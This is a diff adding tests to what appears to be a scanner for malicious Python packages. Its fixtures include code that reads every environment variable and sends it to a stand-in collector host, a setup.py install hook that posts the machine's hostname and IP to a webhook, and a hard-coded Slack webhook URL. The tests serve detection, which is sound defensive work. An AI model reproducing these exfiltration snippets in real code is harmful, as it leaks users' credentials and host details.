@@ -36,6 +36,8 @@ def test_raw_public_ip_versus_private_and_metadata_addresses() -> None:
         "IMDS = 'http://169.254.169.254/latest/meta-data/'\n"
         "LOCAL = 'http://127.0.0.1:8080/'\n"
         "LAN = 'http://192.168.1.10/'\n"
+        "scope = {'client': ('1.2.3.4', 123)}\n"
+        "probe = socket.socket(); probe.connect(('8.8.8.8', 80))\n"
     )
     assert run(R, benign) == []
 
@@ -118,3 +120,80 @@ def test_findings_in_tests_and_docs_weigh_little() -> None:
     assert ids(in_tests) == ids(shipped)
     assert all(f.severity is Severity.LOW for f in in_tests)
     assert score(in_tests).verdict is not Verdict.MALICIOUS
+
+
+def test_environment_walked_into_a_hard_coded_url() -> None:
+    bad = py(
+        "import requests, base64\n"
+        "from os import environ\n"
+        "class Ctx(dict):\n"
+        "    def __init__(self):\n"
+        "        self.send()\n"
+        "    def send(self):\n"
+        "        s = ''\n"
+        "        for _, value in environ.items():\n"
+        "            s += value + ' '\n"
+        "        requests.get('https://collector.example/h/' + base64.b64encode(s.encode()).decode())\n"
+    )
+    combo = [f for f in run(ALL, bad) if f.rule == "PV-EXF-COMBO"]
+    assert combo
+    assert combo[0].severity is Severity.HIGH
+    benign = py(
+        "import os, requests\n"
+        "def proxies(url):\n"
+        "    found = {k: v for k, v in os.environ.items() if k.lower().endswith('_proxy')}\n"
+        "    return requests.get(url, proxies=found)\n"
+    )
+    assert "PV-EXF-COMBO" not in ids(run(ALL, benign))
+
+
+def test_environment_as_a_field_of_collected_data() -> None:
+    bad = py(
+        "import os, json\n"
+        "from urllib import request\n"
+        "data = json.dumps({'host': os.uname(), 'ev': str(os.environ), 'c': os.getcwd()})\n"
+        "request.urlopen(request.Request('https://collector.example/r?d=' + data))\n"
+    )
+    assert "PV-SEC-ENVDUMP" in ids(run(ALL, bad))
+
+
+def test_install_time_webhook_post_of_host_and_ip_is_malicious() -> None:
+    bad = py(
+        "from setuptools import setup\n"
+        "from setuptools.command.install import install\n"
+        "class Install(install):\n"
+        "    def run(self):\n"
+        "        import socket, requests\n"
+        "        hostname = socket.gethostname()\n"
+        "        ip = socket.gethostbyname(hostname)\n"
+        f"        requests.post('{HOOK}', json={{'content': hostname + ip}})\n"
+        "setup(name='x', cmdclass={'install': Install})\n",
+        path="x-1.0/setup.py",
+        stage=Stage.INSTALL,
+    )
+    assert score(run(ALL, bad)).verdict is Verdict.MALICIOUS
+    bot_library = py(
+        f"import requests\ndef notify(msg):\n    requests.post('{HOOK}', json={{'content': msg}})\n"
+    )
+    assert score(run(ALL, bot_library)).verdict is not Verdict.MALICIOUS
+
+
+def test_channels_named_in_docstrings_and_comments_are_documentation() -> None:
+    benign = py(
+        "def create_webhook(url):\n"
+        '    """Create a webhook.\n\n'
+        "    Example: create_webhook(url='https://webhook.site/a2176e82-5720-43ee-9e06-f91cb4c91548')\n"
+        '    """\n'
+        "    # see https://api.telegram.org/bot<token>/sendMessage for the format\n"
+        "    return url\n"
+    )
+    assert run(ALL, benign) == []
+
+
+def test_placeholder_slack_webhook_in_a_config_example() -> None:
+    benign = py(
+        "EXAMPLE = {'alerts': 'https://nothooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX'}\n"
+    )
+    assert run(R, benign) == []
+    bad = py("HOOK = 'https://hooks.slack.com/services/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'\n")
+    assert "PV-EXF-CHANNEL" in ids(run(R, bad))
